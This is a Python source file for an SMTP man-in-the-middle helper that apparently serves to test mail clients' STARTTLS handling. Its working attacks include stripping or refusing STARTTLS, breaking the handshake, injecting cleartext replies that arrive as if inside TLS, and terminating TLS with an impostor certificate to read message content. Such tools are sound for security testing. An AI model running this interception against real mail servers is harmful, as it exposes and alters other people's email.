"""The man in the middle of SMTP: listens where a mail host should be, passes all on to the real one, and lies as he is told. He keeps
what a listener on the wire reads (`wire`), and what he himself could read after TLS ended at him (`read`)."""
import socket
import ssl
import threading


class Mitm:
    """trick:
    None: only listens.      "strip": takes STARTTLS out of EHLO's answer.   "refuse": answers STARTTLS by 454.
    "break": nonsense instead of a handshake.      "cut": closes in the middle of it.
    "inject": replies in clear right behind "220 go", which the client would read as said inside TLS.
    context: TLS ends at him, with this certificate and these versions; in clear to the real host (impostor)."""

    def __init__(self, ip, target, trick=None, context=None, injected=b"250 2.0.0 said in clear\r\n" * 8):
        self.ip, self.target, self.trick, self.context, self.injected = ip, target, trick, context, injected
        self.wire, self.read, self.connections = b"", b"", 0
        self.listener = socket.create_server((ip, 25))
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            self.connections += 1
            threading.Thread(target=self.sit_between, args=(client,), daemon=True).start()

    def sit_between(self, client):
        client.settimeout(30)
        try:
            with client, socket.create_connection((self.target, 25), timeout=30) as host:
                self.converse(client, host)
        except (OSError, ssl.SSLError):
            pass

    def command(self, client):
        """One line of the client, read byte by byte: what stands behind it is not ours yet."""
        line = b""
        while not line.endswith(b"\n"):
            c = client.recv(1)
            if not c:
                raise OSError("gone")
            line += c
        return line

    def reply(self, host):
        lines = []
        while not lines or lines[-1][3:4] == b"-":
            lines.append(self.command(host))
        return lines

    def converse(self, client, host):
        """Commands and replies in clear, until STARTTLS, or to the end where there is none."""
        client.sendall(b"".join(self.reply(host)))
        secure = False
        while True:
            line = self.command(client)
            if secure:
                self.read += line
            else:
                self.wire += line
            if line[:8].upper() == b"STARTTLS" and not secure:
                if self.trick == "refuse":
                    client.sendall(b"454 4.7.0 TLS not available due to temporary reason\r\n")
                    continue
                if self.context or self.trick in ("break", "cut"):
                    client.sendall(b"220 go\r\n")
                    if self.trick == "break":
                        client.sendall(b"this is no handshake\r\n")
                    if not self.context:
                        self.wire += client.recv(100)
                        return
                    client = self.context.wrap_socket(client, server_side=True)
                    secure = True
                    continue
                host.sendall(line)
                answer = b"".join(self.reply(host))
                client.sendall(answer + (self.injected if self.trick == "inject" else b""))
                if answer[:3] == b"220":
                    return self.pass_on(client, host)
                continue
            host.sendall(line)
            answer = self.reply(host)
            if line[:4].upper() == b"EHLO" and (secure or self.trick == "strip"):
                answer = [a for a in answer if a[4:12].upper() != b"STARTTLS"]
            client.sendall(b"".join(answer))
            if line[:4].upper() == b"DATA" and answer[0][:3] == b"354":
                while line != b".\r\n":
                    line = self.command(client)
                    if secure:
                        self.read += line
                    else:
                        self.wire += line
                    host.sendall(line)
                client.sendall(b"".join(self.reply(host)))
            if line[:4].upper() == b"QUIT":
                return

    def pass_on(self, client, host):
        def copy(a, b, note):
            try:
                while True:
                    data = a.recv(65536)
                    if not data:
                        break
                    if note:
                        self.wire += data
                    b.sendall(data)
                b.shutdown(socket.SHUT_WR)
            except OSError:
                pass
        back = threading.Thread(target=copy, args=(host, client, False), daemon=True)
        back.start()
        copy(client, host, True)
        back.join(30)

    def stop(self):
        self.listener.close()
